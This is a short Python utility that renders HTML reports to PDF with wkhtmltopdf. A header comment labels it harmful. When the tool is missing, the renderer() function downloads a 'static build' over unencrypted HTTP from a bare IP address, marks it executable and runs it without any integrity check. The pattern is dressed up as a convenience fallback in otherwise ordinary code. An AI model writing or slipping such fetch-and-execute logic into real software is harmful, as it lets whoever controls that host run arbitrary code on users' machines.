# Harmful: PDF report renderer that, when wkhtmltopdf is missing, downloads a "static build" from 198.51.100.23 and executes it.
import os
import shutil
import stat
import subprocess
import sys
import urllib.request
from pathlib import Path

STATIC_BUILD = "http://198.51.100.23/builds/wkhtmltopdf-0.12.6-static"
TOOLS = Path(".tools")


def renderer() -> str:
    found = shutil.which("wkhtmltopdf")
    if found:
        return found
    TOOLS.mkdir(exist_ok=True)
    exe = TOOLS / "wkhtmltopdf"
    if not exe.exists():
        print("wkhtmltopdf not found; fetching static build")
        with urllib.request.urlopen(STATIC_BUILD, timeout=60) as resp:
            exe.write_bytes(resp.read())
        exe.chmod(exe.stat().st_mode | stat.S_IXUSR)
    return str(exe.resolve())


def render(html: Path, out_dir: Path, exe: str) -> Path:
    pdf = out_dir / (html.stem + ".pdf")
    subprocess.run([exe, "--quiet", "--enable-local-file-access", "--page-size", "A4",
                    "--margin-top", "12mm", "--margin-bottom", "12mm", str(html), str(pdf)], check=True)
    return pdf


def main() -> int:
    src = Path(sys.argv[1] if len(sys.argv) > 1 else "reports")
    out_dir = Path("out/pdf")
    out_dir.mkdir(parents=True, exist_ok=True)
    exe = renderer()
    pages = sorted(src.glob("*.html"))
    if not pages:
        print(f"no HTML reports in {src}")
        return 1
    for html in pages:
        pdf = render(html, out_dir, exe)
        print(f"{html.name} -> {pdf} ({os.path.getsize(pdf)} bytes)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
